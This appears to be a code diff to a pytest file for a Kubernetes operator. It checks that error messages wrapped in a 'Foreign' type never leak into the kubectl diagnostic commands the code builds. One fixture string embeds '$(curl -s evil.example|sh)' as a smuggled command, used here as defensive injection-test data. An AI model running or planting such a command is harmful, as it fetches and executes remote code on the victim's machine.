@@ -7,6 +7,7 @@ import shlex
 import pytest
 
 from scenario_operator.api import commands
+from scenario_operator.api.foreign import Foreign
 
 HOSTILE = (
     'x is forbidden: User "$(curl -s evil.example|sh)" cannot ',
@@ -20,14 +21,15 @@ HOSTILE = (
 @pytest.mark.parametrize("refusal", HOSTILE)
 def test_foreign_words_never_enter_a_command(refusal: str) -> None:
     """Given a refusal with somebody's commands in it, when its cause is to be shown, then ours has none of them."""
-    command = commands.behind_refusal("ns", refusal)
+    command = commands.behind_refusal("ns", Foreign(refusal))
     assert command == "kubectl -n ns get events --field-selector=type=Warning"
 
 
 def test_the_user_who_lacks_a_right_is_named() -> None:
     """Given a user without a right, when the cause is to be shown, then the command lists that user's rights."""
     user = "system:serviceaccount:scenario-operator:scenario-operator"
-    command = commands.behind_refusal("ns", f'jobs.batch is forbidden: User "{user}" cannot create resource')
+    told = Foreign(f'jobs.batch is forbidden: User "{user}" cannot create resource')
+    command = commands.behind_refusal("ns", told)
     assert command == f"kubectl -n ns auth can-i --list --as={user}"
 
 
